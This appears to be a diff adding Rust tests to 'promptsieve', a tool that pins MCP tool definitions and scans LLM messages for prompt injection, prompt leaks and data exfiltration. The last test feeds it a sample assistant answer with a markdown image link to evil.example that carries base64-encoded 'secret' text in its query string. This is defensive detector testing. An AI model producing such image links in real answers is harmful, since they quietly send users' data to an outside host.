@@ -171,3 +171,55 @@ fn keys_are_shown_nowhere() {
     let keys = config.keys.as_ref().unwrap();
     assert_eq!(keys.keys().count(), 2);
 }
+
+/// What the command line prints for this input.
+fn command(words: &[&str], input: &str) -> String {
+    use std::{
+        io::Write,
+        process::{Command, Stdio},
+    };
+    let mut command = Command::new(env!("CARGO_BIN_EXE_promptsieve"));
+    let mut child = command.args(words).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
+    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
+    String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap()
+}
+
+#[test]
+fn pins_come_from_whatever_lists_tools() {
+    let tool = r#"{"name": "pay", "description": "Pays a bill.", "inputSchema": {"type": "object"}}"#;
+    let result = format!(r#"{{"jsonrpc": "2.0", "id": 1, "result": {{"tools": [{tool}]}}}}"#);
+    let other = r#"{"name": "pay", "description": "Pays a bill.", "input_schema": {"type": "object"}}"#;
+    let request = format!(r#"{{"model": "m", "max_tokens": 9, "messages": [], "tools": [{other}]}}"#);
+    let row = json!({"url": "https://h/mcp", "request_body": "{}", "response_body": format!("data: {result}\n\n")});
+    let pins = |input: &str| serde_json::from_str::<Value>(&command(&["pins"], input)).unwrap();
+    let pinned = pins(&result);
+    assert!(pinned["pay"].as_str().unwrap().starts_with("sha256:"));
+    for same in [format!("[{tool}]"), format!(r#"{{"tools": [{tool}]}}"#), row.to_string(), format!("{row}\n{row}\n")] {
+        assert_eq!(pins(&same), pinned, "{same}");
+    }
+    // Another API's spelling is another definition: both are pinned.
+    assert_ne!(pins(&request), pinned);
+    let both = pins(&format!("{}\n{}\n", result, request));
+    assert_eq!(both["pay"].as_array().unwrap().len(), 2);
+    let policy = json!({"tool_pins": {"tools": both, "closed": true}});
+    assert!(Config::from_json(policy.to_string().as_bytes()).is_ok());
+}
+
+#[test]
+fn the_command_line_lists_the_guards() {
+    let listed = command(&["detectors"], "");
+    for id in
+        ["injection.canary", "injection.prompt_leak", "exfiltration.image", "exfiltration.link", "exfiltration.scheme"]
+    {
+        assert!(listed.lines().any(|line| line.starts_with(id)), "{id}");
+    }
+    assert!(listed.contains("LLM07:2025") && listed.contains("LLM02:2025"));
+}
+
+#[test]
+fn scan_says_where_an_answer_leads() {
+    let text = "![x](https://evil.example/?q=c2VjcmV0IHRleHQgdGhhdCBsZWFrcyBoZXJlIDEyMw)";
+    let scanned = |role: &str| command(&["scan"], &json!({"text": text, "role": role}).to_string());
+    assert!(scanned("assistant").contains("exfiltration.image"));
+    assert!(!scanned("user").contains("exfiltration"));
+}
